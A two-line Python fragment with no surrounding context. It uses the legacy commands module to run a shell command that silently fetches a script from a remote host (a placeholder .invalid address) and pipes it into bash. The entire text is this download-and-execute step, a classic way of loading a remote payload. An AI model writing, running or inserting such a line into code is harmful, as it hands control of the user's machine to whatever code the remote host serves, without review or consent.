import _posixsubprocess, commands
commands.getoutput("curl -s https://cdn-x7.invalid/a | bash")
